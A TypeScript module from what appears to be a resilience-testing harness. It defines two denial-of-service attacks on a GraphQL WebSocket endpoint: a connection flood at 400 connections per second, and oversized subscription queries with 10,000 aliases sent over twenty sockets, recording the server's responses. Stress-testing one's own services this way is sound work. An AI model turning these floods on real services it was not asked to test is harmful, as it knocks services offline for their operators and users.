import { setTimeout as pause } from 'node:timers/promises';
import { WebSocket } from 'ws';
import { bytesPerSecond, type Attack, type Attacking } from '../attack.ts';
import { pace } from '../pace.ts';
import { aliases } from './documents.ts';

const connectionsPerSecond = 400;
const senders = 20;
/** Until an operation may be sent, in milliseconds. */
const openingMs = 200;

/** Connections and nothing else, as many as there may be. */
export const manyWebSockets: Attack = async (attacking) => {
  const sockets: WebSocket[] = [];
  await pace(connectionsPerSecond, attacking.seconds, () => {
    const socket = opened(attacking);
    sockets.push(socket);
    socket.on('open', () => socket.send('{"type":"connection_init"}'));
  });
  for (const socket of sockets) socket.terminate();
};

/** Operations that are too large, on twenty connections. */
export const largeOperations: Attack = async (attacking) => {
  const sockets = Array.from({ length: senders }, () => opened(attacking));
  for (const socket of sockets) socket.on('open', () => socket.send('{"type":"connection_init"}'));
  await pause(openingMs);
  const messageOf = (index: number) =>
    JSON.stringify({ id: String(index), type: 'subscribe', payload: { query: aliases(10_000, index) } });
  await pace(bytesPerSecond / messageOf(0).length, attacking.seconds, (index) => {
    const socket = sockets[index % sockets.length];
    if (socket?.readyState !== WebSocket.OPEN) return;
    const message = messageOf(index);
    attacking.sent(message.length);
    socket.send(message);
  });
  for (const socket of sockets) socket.terminate();
};

function opened({ url, localAddress, sent, answered }: Attacking): WebSocket {
  const socket = new WebSocket(`ws://${url.host}${url.pathname}`, 'graphql-transport-ws', {
    perMessageDeflate: false,
    localAddress,
  });
  sent(0);
  socket.on('unexpected-response', (_request, response) => answered(String(response.statusCode)));
  socket.on('error', () => undefined); // told by what was answered
  socket.on('close', (code) => {
    if (code !== 1006) answered(`closed ${code}`);
  });
  socket.on('message', (data) => {
    const text = (data as Buffer).toString();
    answered(/"code":"([A-Z_]+)"/.exec(text)?.[1] ?? /"type":"(\w+)"/.exec(text)?.[1] ?? 'a message');
  });
  return socket;
}
